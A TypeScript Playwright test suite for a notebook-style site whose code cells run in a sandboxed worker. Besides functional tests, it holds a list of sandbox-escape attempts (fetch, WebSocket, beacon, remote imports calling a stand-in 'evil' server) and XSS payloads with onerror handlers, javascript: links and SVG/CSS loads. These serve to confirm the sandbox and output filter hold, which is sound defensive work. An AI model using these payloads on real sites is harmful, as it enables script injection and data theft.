import { createHash } from "node:crypto";
import { readFileSync } from "node:fs";
import { createServer, type Server as HttpServer } from "node:http";
import type { AddressInfo } from "node:net";
import { pathToFileURL } from "node:url";
import type { Browser, Locator, Page } from "playwright-core";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { type SiteServer, serveSite } from "../../src/server/index.js";
import { barriers, launch, noBrowser, openContext, visit } from "../support/browser.js";
import { compileTo, filesIn, temporary } from "../support/program.js";
import { put } from "../vault/on-disk.js";

/** Cells that run in the page: what readers do with them, and what hostile ones try. */
const folder = temporary();
const out = folder.at("site");
let browser: Browser;
let site: SiteServer;
/** Somebody else's server, which would answer anybody. */
let stranger: HttpServer;
let heard: string[] = [];
let evil = "";

const cell = (code: string, head = "") => `\`\`\`ts cell${head}\n${code}\n\`\`\`\n`;

const notes = {
	"门控.md": cell(
		"export function powers(factor: number, steps: number): number[] {\n\treturn Array.from({ length: steps }, (_, t) => factor ** t);\n}",
		" id=powers",
	),
	"梯度.md": [
		"# 梯度",
		cell(
			'import { powers } from "[[门控]]";\nconst factor = param("factor", 0.5, { min: 0, max: 1, step: 0.1, label: "系数" });\nconst kind = param("kind", "line", ["line", "none"]);\nconst shown = param("shown", true);\nexport const path = powers(factor, 5);\ntest("starts at one", () => close(path[0]!, 1));\nif (shown && kind === "line") display(chart.line(path));\npath.at(-1)',
			" id=path",
		),
		"中间的话。",
		cell('const last: number = path.at(-1)!;\n"last " + last', " id=last"),
		cell("table([{ a: 1, b: String(path.length) }])", " id=table"),
		cell("tex`x^2`", " id=formula"),
		cell('throw new Error("as planned")', " id=fails"),
		cell("last + nothingLikeThis", " id=wrong"),
		cell("for (;;) {}", " id=loop timeout=1"),
		cell("while (true) await null", " id=ticks timeout=1"),
		cell("await new Promise(() => {})", " id=never timeout=1"),
		cell("for (;;) {}", " id=long timeout=60"),
		cell('"afterwards"', " id=after"),
		cell('"seen"', " id=live page=live"),
	].join("\n\n"),
	"circle a.md":
		cell("export const a = 1;", " id=a") +
		cell('import { b, c } from "[[circle b]]";\nexport const d = b + c - 1; d', " id=d"),
	"circle b.md":
		cell('import { a } from "[[circle a]]";\nexport const b = a + 1; b', " id=b") +
		cell("export const c = 5", " id=c"),
};

beforeAll(async () => {
	if (noBrowser) return;
	stranger = createServer((request, response) => {
		heard.push(request.url ?? "");
		response
			.writeHead(200, { "access-control-allow-origin": "*", "content-type": "text/javascript" })
			.end("1");
	});
	stranger.on("upgrade", (request, socket) => {
		heard.push(`upgrade ${request.url}`);
		socket.destroy();
	});
	await new Promise<void>((resolve) => stranger.listen(0, "127.0.0.1", resolve));
	evil = `http://127.0.0.1:${(stranger.address() as AddressInfo).port}`;
	put(folder.at("vault"), { ...notes, "attacks.md": attackNote(), "escapes.md": outputNote() });
	await compileTo(out, folder.at("vault"));
	site = await serveSite(out);
	browser = await launch();
}, 300_000);

afterAll(async () => {
	await browser?.close();
	await site?.close();
	stranger?.close();
	folder.remove();
});

beforeEach((ctx) => {
	if (noBrowser) ctx.skip(noBrowser);
	heard = [];
});

function figure(page: Page, id: string): Locator {
	return page.locator(`#cell-${id}`);
}

async function run(page: Page, id: string): Promise<string> {
	const here = figure(page, id);
	await here.locator("button.main").click();
	await here.locator("button.main [data-t=cellRun]").waitFor();
	await poll(() => here.locator(".cell-status [data-t=cellLoading]").count()).toBe(0);
	return outputOf(page, id);
}

/** A machine that builds and tests at once may take its time. */
const poll: typeof expect.poll = (look) => expect.poll(look, { timeout: 30_000 });

function outputOf(page: Page, id: string): Promise<string> {
	return figure(page, id).locator(".cell-output").innerText();
}

describe.each(["server", "disk"])("from a %s", (where) => {
	const read = (path: string, use: (page: Page) => Promise<void>) =>
		visit(browser, where === "disk" ? `${pathToFileURL(out).href}/` : site.url, path, use);

	test("a cell runs with all that it needs, from other notes too", () =>
		read("梯度.html", async (page) => {
			expect(await run(page, "path")).toMatch(/0\.0625\n✓\n.*\nstarts at one/s);
			expect(await figure(page, "path").locator(".cell-output svg path").count()).toBeGreaterThan(0);
			expect(await run(page, "last")).toBe("last 0.0625");
			expect(await run(page, "table")).toContain("a\tb\n1\t5");
			await run(page, "formula");
			expect(await figure(page, "formula").locator("math msup").count()).toBe(1);
		}));

	test("a changed value changes what depends on it, and a reset brings back what was", () =>
		read("梯度.html", async (page) => {
			await run(page, "path");
			const slider = figure(page, "path").locator("input[type=range]");
			await slider.fill("0.9");
			await poll(() => outputOf(page, "last")).toBe("last 0.6561");
			expect(await figure(page, "path").locator("output").innerText()).toBe("0.9");
			await figure(page, "path").locator("select").selectOption({ label: "none" });
			await poll(() => figure(page, "path").locator(".cell-output svg").count()).toBe(0);
			await figure(page, "path")
				.locator("button", { has: page.locator("[data-t=cellReset]") })
				.click();
			await poll(() => outputOf(page, "path")).toMatch(/尚未运行|Not run yet/);
			expect(await slider.inputValue()).toBe("0.5");
			expect(await outputOf(page, "last")).toMatch(/尚未运行|Not run yet/);
		}));

	test("an edited program runs by itself, with what depends on it; types and imports are read", () =>
		read("梯度.html", async (page) => {
			await openEditor(page, "path");
			await page.keyboard.press("Control+a");
			await page.keyboard.insertText(
				'import { powers } from "[[门控]]";\nconst n: number = 3;\nexport const path: number[] = powers(2, n);\npath.at(-1)',
			);
			await poll(() => outputOf(page, "path")).toBe("4");
			await poll(() => outputOf(page, "last")).toBe("last 4");
			// The sliders went with the params.
			expect(await figure(page, "path").locator("input").count()).toBe(0);
		}));
});

async function openEditor(page: Page, id: string): Promise<void> {
	await figure(page, id)
		.locator("button", { has: page.locator("[data-t=cellEdit]") })
		.click();
	await figure(page, id).locator(".cm-content").waitFor();
}

const read = (use: (page: Page) => Promise<void>, path = "梯度.html") => visit(browser, site.url, path, use);

test("an error says what and where, and marks the line in the editor", () =>
	read(async (page) => {
		expect(await run(page, "fails")).toBe('Error: as planned\n\n1:7\n\nthrow new Error("as planned")');
		expect(await run(page, "wrong")).toContain("ReferenceError: nothingLikeThis is not defined\n\n1:8");
		await openEditor(page, "fails");
		await page.keyboard.press("Control+a");
		await page.keyboard.insertText("const 数 = 1;\n数.foo.bar");
		await page.locator(".cm-wrong-line").waitFor();
		expect(await page.locator(".cm-wrong-line").innerText()).toBe("数.foo.bar");
		await page.keyboard.press("Control+a");
		await page.keyboard.insertText("const x = ;");
		await poll(() => figure(page, "fails").locator(".cell-status.problem").count()).toBe(1);
		expect(await page.locator(".cm-wrong-line").innerText()).toBe("const x = ;");
	}));

test("what cannot be read is an error in the place of the result, and no earlier program runs for it", () =>
	read(async (page) => {
		const chart = figure(page, "path").locator(".cell-output svg");
		const write = async (program: string) => {
			await figure(page, "path").locator(".cm-content").click();
			await page.keyboard.press("Control+a");
			await page.keyboard.insertText(program);
		};
		const isRefused = async () => {
			expect(await run(page, "path")).toMatch(/^SyntaxError: .*\n\n2:16\n\nconst x = \(1 \+ ;$/s);
			expect(await chart.count()).toBe(0);
			expect(await figure(page, "path").locator(".cm-wrong-line").innerText()).toBe("const x = (1 + ;");
			expect(await figure(page, "path").locator(".cell-status.problem").count()).toBe(1);
		};
		await run(page, "path");
		expect(await run(page, "last")).toBe("last 0.0625");
		expect(await chart.count()).toBe(1);
		await openEditor(page, "path");
		const original = notes["梯度.md"].split("```")[1]?.replace(/^.*\n/, "").trimEnd() ?? "";
		// Run at once, before what was typed has been taken; and again.
		await write("// broken\nconst x = (1 + ;");
		await isRefused();
		await isRefused();
		expect(await run(page, "last")).toMatch(/A cell that it needs|所依赖/);
		// It stays where it is while the editor is closed.
		await figure(page, "path").locator("[data-t=cellDone]").click();
		expect(await run(page, "path")).toContain("SyntaxError");
		await openEditor(page, "path");
		await figure(page, "path").locator(".cm-wrong-line").waitFor();
		// The very program from before is run again.
		await write(original);
		await poll(() => chart.count()).toBe(1);
		await poll(() => outputOf(page, "last")).toBe("last 0.0625");
		expect(await figure(page, "path").locator(".cm-wrong-line, .cell-status.problem").count()).toBe(0);
		await write("const x = (1 + ;");
		await page.keyboard.press("Control+Enter");
		await poll(() => outputOf(page, "path")).toContain("SyntaxError");
		await write("export const path = [1 + 1]; path[0]");
		expect(await run(page, "path")).toBe("2");
		await poll(() => outputOf(page, "last")).toBe("last 2");
	}));

test("an import of what is not there takes the place of the result, and who depends on it waits", () =>
	read(async (page) => {
		await run(page, "path");
		expect(await run(page, "last")).toBe("last 0.0625");
		await openEditor(page, "path");
		for (const [program, missing] of [
			['import { x } from "[[nowhere]]";\nexport const path = [x];', "[[nowhere]]"],
			['import { nothing } from "[[门控]]";\nexport const path = [nothing];', "nothing"],
		] as const) {
			await figure(page, "path").locator(".cm-content").click();
			await page.keyboard.press("Control+a");
			await page.keyboard.insertText(program);
			expect(await run(page, "path")).toContain(missing);
			expect(await figure(page, "path").locator(".cell-output .cell-error").count()).toBe(1);
			expect(await figure(page, "path").locator(".cell-output svg").count()).toBe(0);
			expect(await figure(page, "path").locator(".cm-wrong-line").innerText()).toContain("import");
			expect(await run(page, "last")).toMatch(/A cell that it needs|所依赖/);
		}
	}));

test("what an edit needs and the page does not have is said, with its name", () =>
	read(async (page) => {
		await openEditor(page, "last");
		for (const [program, said] of [
			['import { x } from "[[nowhere]]"; x', "[[nowhere]]"],
			['import { powers, missing } from "[[#path]]"; missing', "powers"],
			['import fs from "node:fs"; fs', "node:fs"],
			['const at = "data:text/javascript,"; await import(at + 1)', "at + 1"],
			["const path = 3; path", "path"],
		] as const) {
			await figure(page, "last").locator(".cm-content").click();
			await page.keyboard.press("Control+a");
			await page.keyboard.insertText(program);
			if (said === "path") await poll(() => outputOf(page, "last")).toBe("3");
			else
				await expect
					.poll(() => figure(page, "last").locator(".cell-status.problem").innerText())
					.toContain(said);
		}
	}));

test("endless cells end with their time, and the next one is fine", () =>
	read(async (page) => {
		for (const id of ["loop", "ticks", "never"]) {
			expect(await run(page, id)).toMatch(/took longer|超过时限/);
			expect(await run(page, "after")).toBe("afterwards");
		}
	}));

test("a running cell can be stopped", () =>
	read(async (page) => {
		await run(page, "after");
		await figure(page, "long").locator("button.main").click();
		await figure(page, "long").locator("[data-t=cellStop]").click();
		await figure(page, "long").locator("[data-t=cellRun]").waitFor();
		expect(await run(page, "after")).toBe("afterwards");
	}));

test("a cell that asks for it runs when it is seen", () =>
	read(async (page) => {
		await figure(page, "live").scrollIntoViewIfNeeded();
		await poll(() => outputOf(page, "live")).toBe("seen");
	}));

test("notes may import from each other", () =>
	read(async (page) => {
		expect(await run(page, "d")).toBe("6");
		await visit(browser, site.url, "circle-b.html", async (page) => expect(await run(page, "b")).toBe("2"));
	}, "circle-a.html"));

test("an input method may write in the editor, inside of brackets too", () =>
	read(async (page) => {
		await openEditor(page, "after");
		await page.keyboard.press("Control+a");
		await page.keyboard.press("Delete");
		await page.keyboard.type('"');
		await poll(() => outputOf(page, "after")).toBe("");
		const keyboard = await page.context().newCDPSession(page);
		for (const text of ["s", "sh", "shen", "神经"]) {
			await keyboard.send("Input.imeSetComposition", {
				text,
				selectionStart: text.length,
				selectionEnd: text.length,
			});
			await page.waitForTimeout(450);
		}
		// Nothing that is half written has run.
		expect(await outputOf(page, "after")).toBe("");
		await keyboard.send("Input.insertText", { text: "神经" });
		expect(await figure(page, "after").locator(".cm-content").innerText()).toBe('"神经"');
		await poll(() => outputOf(page, "after")).toBe("神经");
	}));

test("all of it can be reached and used by keyboard, and is told to those who listen", () =>
	read(async (page) => {
		await figure(page, "after").locator("button.main").focus();
		await page.keyboard.press("Enter");
		await poll(() => figure(page, "after").locator("[role=status]").innerText()).toMatch(/ms$/);
		await page.keyboard.press("Tab");
		await page.keyboard.press("Enter");
		await figure(page, "after").locator(".cm-content:focus").waitFor();
		await page.keyboard.press("Control+a");
		await page.keyboard.insertText('"by keyboard"');
		await page.keyboard.press("Control+Enter");
		await poll(() => outputOf(page, "after")).toBe("by keyboard");
		await page.keyboard.press("Escape");
		await figure(page, "after").locator("button:focus [data-t=cellDone]").waitFor();
	}));

test.each(["light", "dark"] as const)("there is no barrier that axe knows: %s", async (colorScheme) => {
	const { context } = await openContext(browser, site.url, { colorScheme, bypassCSP: true });
	const page = await context.newPage();
	await page.goto(new URL("%E6%A2%AF%E5%BA%A6.html", site.url).href);
	for (const id of ["path", "table", "formula", "fails"]) await run(page, id);
	await openEditor(page, "last");
	expect(await barriers(page)).toEqual([]);
	await context.close();
});

test("without scripts the page says everything that it knows, and offers nothing that would not work", () =>
	visit(
		browser,
		site.url,
		"梯度.html",
		async (page) => {
			expect(await page.locator(".cell button, .cell input").count()).toBe(0);
			expect(await page.locator(".cell-note").count()).toBeGreaterThan(5);
			expect(await page.locator("#cell-path .cell-program").innerText()).toContain("[[门控]]");
		},
		{ javaScriptEnabled: false },
	));

test("a page asks for nothing beyond its two small files before somebody runs a cell", () =>
	read(async (page) => {
		await page.waitForLoadState("networkidle");
		const asked = await page.evaluate(() => performance.getEntriesByType("resource").map(({ name }) => name));
		expect(asked.filter((name) => /cell-|cells\//.test(name)).filter((name) => !/live/.test(name))).toEqual(
			[],
		);
	}, "circle-a.html"));

/** What a cell may try in the worker; each is a program that answers what it got. */
const attacks: Readonly<Record<string, string>> = {
	fetch: "await fetch(evil + '/fetch').then((it) => it.text())",
	XMLHttpRequest:
		"(() => { const x = new XMLHttpRequest(); x.open('GET', evil + '/xhr', false); x.send(); return x.responseText; })()",
	WebSocket:
		"await new Promise((yes, no) => { const s = new WebSocket(evil.replace('http', 'ws') + '/ws'); s.onopen = yes; s.onerror = no; })",
	EventSource:
		"await new Promise((yes, no) => { const s = new EventSource(evil + '/es'); s.onmessage = yes; s.onerror = no; })",
	WebTransport: "await new WebTransport(evil.replace('http:', 'https:') + '/wt').ready",
	beacon: "(() => { if (!navigator.sendBeacon(evil + '/beacon')) throw 0; return 'sent'; })()",
	"remote import": "await import(evil + '/import.js')",
	"data import": "await import(['data:text/javascript,export default 1'].join())",
	importScripts: "(importScripts(evil + '/scripts.js'), 'loaded')",
	indexedDB:
		"await new Promise((yes, no) => { const r = indexedDB.open('x'); r.onsuccess = yes; r.onerror = no; })",
	caches: "await caches.open('x')",
	"cache of a stranger": "await caches.open('x').then((c) => c.add(evil + '/cache'))",
	localStorage: "localStorage.setItem('x', 'y')",
	cookieStore: "await cookieStore.getAll()",
	storage: "await navigator.storage.getDirectory()",
	parent: "parent.document.title",
	top: "(top.location = evil + '/top', 'moved')",
	opener: "opener.document.title",
	document: "document.title",
	"window.open": "window.open(evil + '/open')",
	location: "(location.href = evil + '/location', location.assign(evil + '/assign'), 'moved')",
	"nested worker":
		"await new Promise((yes, no) => { const u = URL.createObjectURL(new Blob(['fetch(\\'' + evil + '/nested\\').then(() => postMessage(1), () => postMessage(0))'])); const w = new Worker(u); w.onmessage = (e) => e.data ? yes('got') : no(0); w.onerror = no; })",
	"remote worker":
		"await new Promise((yes, no) => { const w = new Worker(evil + '/worker.js'); w.onmessage = yes; w.onerror = no; })",
	BroadcastChannel: "(() => { new BroadcastChannel('notapse').postMessage('x'); return 'sent'; })()",
	"forged answer":
		"(self.postMessage(JSON.stringify({ kind: 'done', cell: 0, ms: 0, outputs: [{ output_type: 'stream', name: 'stdout', text: 'forged' }], tests: [], params: [] })), 'sent')",
	"another's listener":
		"(self.onmessage = () => {}, self.addEventListener('message', () => {}), 'listening')",
	eval: "eval('1')",
	Function: "new Function('return 1')()",
	"hidden Function": "(async () => {}).constructor('return 1')()",
	"prototype pollution": "(() => { 'use strict'; Object.prototype.polluted = 1; return 'polluted'; })()",
	"array pollution": "(() => { Array.prototype.map = () => ['polluted']; return [1].map(String); })()",
	notifications: "await Notification.requestPermission()",
	fonts: "await new FontFace('x', 'url(' + evil + '/font)').load()",
	createImageBitmap: "await createImageBitmap(await (await fetch(evil + '/bitmap')).blob())",
};

function attackNote(): string {
	const list = Object.entries(attacks).map(([, program], i) =>
		cell(
			`const evil: any = ${JSON.stringify(evil)};\nlet got${i}: unknown = "denied";\ntry { got${i} = ["GOT", String(${program.replaceAll("\n", " ")})].join(" "); } catch {}\ngot${i}`,
			` id=attack-${i} timeout=3`,
		).replace(/\bevil\b/g, `evil${i}`),
	);
	return list.join("\n");
}

test("no cell gets anywhere: not to a server, not to the page, not to other cells", async () => {
	const context = await browser.newContext();
	const page = await context.newPage();
	await page.goto(new URL("attacks.html", site.url).href);
	const before = await page.evaluate(() => document.querySelector("header")?.outerHTML);
	const obtained: string[] = [];
	for (const [i, name] of Object.keys(attacks).entries()) {
		if (name.endsWith(" import")) {
			// A program that computes what it imports is not even given to the page.
			expect(await figure(page, `attack-${i}`).locator("button.main").count()).toBe(0);
			continue;
		}
		const got = await run(page, `attack-${i}`);
		if (got !== "denied" && got !== '"denied"') obtained.push(`${name}: ${got}`);
	}
	expect(obtained).toEqual([]);
	expect(Object.keys(attacks).length).toBeGreaterThan(30);
	expect(heard).toEqual([]);
	expect(await page.evaluate(() => document.querySelector("header")?.outerHTML)).toBe(before);
	expect(
		await page.evaluate(() => ["polluted" in {}, "pwned" in window, localStorage.length, location.pathname]),
	).toEqual([false, false, 0, "/attacks.html"]);
	await context.close();
}, 300_000);

/** What an output may try in the page. */
const outputs: readonly string[] = [
	'html(\'<img src="EVIL/img"><img src=x onerror="top.pwned=1"><picture><source srcset="EVIL/srcset"><img></picture>\')',
	"html('<script>top.pwned=1</script><script src=\"EVIL/script\"></script>')",
	'html(\'<iframe src="EVIL/iframe"></iframe><iframe srcdoc="<script>top.pwned=1</script>"></iframe><object data="EVIL/object"></object><embed src="EVIL/embed">\')',
	'html(\'<form action="EVIL/form"><input autofocus onfocus="top.pwned=1"><button>send</button></form>\')',
	'html(\'<base href="EVIL/"><meta http-equiv=refresh content="0;url=EVIL/refresh"><link rel=stylesheet href="EVIL/css"><link rel=prefetch href="EVIL/prefetch">\')',
	'html(\'<style>@import "EVIL/import.css"; body { background: url(EVIL/bg) }</style><p style="background:url(EVIL/style);position:fixed;inset:0">x</p>\')',
	'html(\'<a href="javascript:top.pwned=1" id=evil-link>x</a><a href="data:text/html,x">x</a><a ping="EVIL/ping" href="https://site.invalid">x</a>\')',
	'html(\'<video src="EVIL/video" autoplay></video><audio src="EVIL/audio"></audio><video poster="EVIL/poster"></video>\')',
	'svg(\'<svg xmlns="http://www.w3.org/2000/svg" onload="top.pwned=1"><image href="EVIL/image"/><use href="EVIL/use#a"/><script>top.pwned=1</script></svg>\')',
	'svg(\'<svg xmlns="http://www.w3.org/2000/svg"><rect fill="url(EVIL/fill#a)" width="5" height="5"/><foreignObject><img src="EVIL/fo" onerror="top.pwned=1"/></foreignObject><a href="javascript:top.pwned=1"><text>x</text></a></svg>\')',
	'svg(\'<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(EVIL/svgcss);</style><rect width="5" height="5"/></svg>\')',
	'html(\'<svg><style>@import url(EVIL/svgcss2)</style><animate onbegin="top.pwned=1" attributeName=x dur=1s /></svg><math><mtext><img src="EVIL/math" onerror="top.pwned=1"></mtext></math>\')',
	'md(\'![x](EVIL/md) <img src="EVIL/mdimg" onerror="top.pwned=1"> [x](javascript:top.pwned=1)\')',
	"tex('\\\\href{javascript:top.pwned=1}{x} \\\\includegraphics{EVIL/tex} \\\\class{a}{x}')",
	"html('<div id=content class=skip></div></div></figure></main><p class=out>outside</p><details open ontoggle=\"top.pwned=1\">x</details>')",
	"({ [Symbol.for('Jupyter.display')]: () => ({ 'text/html': { __proto__: null, toString: 'x' }, 'image/png': '\" onerror=\"top.pwned=1', 'text/plain': '<img src=EVIL/plain onerror=top.pwned=1>' }) })",
];

function outputNote(): string {
	return outputs.map((program, i) => cell(program.replaceAll("EVIL", evil), ` id=out-${i}`)).join("\n");
}

test("nothing that a cell displays acts, loads, or leaves its place in the page", async () => {
	// Without the page's policy: the filter has to hold alone.
	const context = await browser.newContext({ bypassCSP: true });
	const page = await context.newPage();
	await page.goto(new URL("escapes.html", site.url).href);
	for (const i of outputs.keys()) await run(page, `out-${i}`);
	await page.waitForTimeout(500);
	expect(await page.evaluate(() => (window as unknown as { pwned?: unknown }).pwned)).toBeUndefined();
	expect(heard).toEqual([]);
	const forbidden =
		"script, style, link, meta, base, iframe, object, embed, form, input, button, video, audio, foreignObject, use, image, animate, [style*=fixed], [id='content'], .skip, .out, [onload], [onerror]";
	expect(await page.locator(`.cell-output :is(${forbidden})`).count()).toBe(0);
	expect(await page.locator(".cell-output a:not([href^='http'])[href]").count()).toBe(0);
	await context.close();
}, 300_000);

test("the frame's policy holds by itself, when nothing was taken from the worker", async () => {
	const frame = filesIn(out).find((path) => /^-\/cell-frame\.[\da-f]+\.html$/.test(path)) ?? "";
	const page = readFileSync(`${out}/${frame}`, "utf8");
	const network = [
		"fetch",
		"XMLHttpRequest",
		"WebSocket",
		"EventSource",
		"WebTransport",
		"remote import",
		"data import",
		"importScripts",
		"indexedDB",
		"caches",
		"nested worker",
		"remote worker",
		"eval",
		"Function",
	];
	const worker = `const evil = ${JSON.stringify(evil)}; (async () => { const got = []; ${network
		.map(
			(name) =>
				`try { await Promise.race([(async () => ${attacks[name]})(), new Promise((_, no) => setTimeout(no, 2000))]); got.push(${JSON.stringify(name)}); } catch {}`,
		)
		.join("\n")} postMessage(got); })()`;
	const script = `const w = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(worker)}]))); w.onmessage = (e) => parent.postMessage(e.data, "*");`;
	const hash = createHash("sha256").update(script).digest("base64");
	const attacked = page
		.replace(/'sha256-[^']+'/, `'sha256-${hash}'`)
		.replace(/<script>.*<\/script>/s, () => `<script>${script}</script>`);
	expect(await inFrame(attacked)).toEqual([]);
	expect(heard).toEqual([]);
	// Without the policy the same attacks get through: the test can fail.
	expect(await inFrame(attacked.replace(/<meta http-equiv[^>]*>/, ""))).toContain("fetch");
	expect(heard).toContain("/fetch");
}, 120_000);

/** What a page says that stands in the place of the frame. */
async function inFrame(body: string): Promise<unknown> {
	const server = createServer((request, response) => {
		response.writeHead(200, { "content-type": "text/html; charset=utf-8" });
		response.end(request.url === "/frame.html" ? body : "<!doctype html><title>x</title>");
	});
	await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
	const page = await browser.newPage();
	await page.goto(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`);
	const said = await page.evaluate(
		() =>
			new Promise((resolve) => {
				addEventListener("message", ({ data }) => resolve(data), { once: true });
				const frame = document.createElement("iframe");
				frame.setAttribute("sandbox", "allow-scripts");
				frame.src = "frame.html";
				document.body.append(frame);
			}),
	);
	await page.close();
	server.close();
	return said;
}
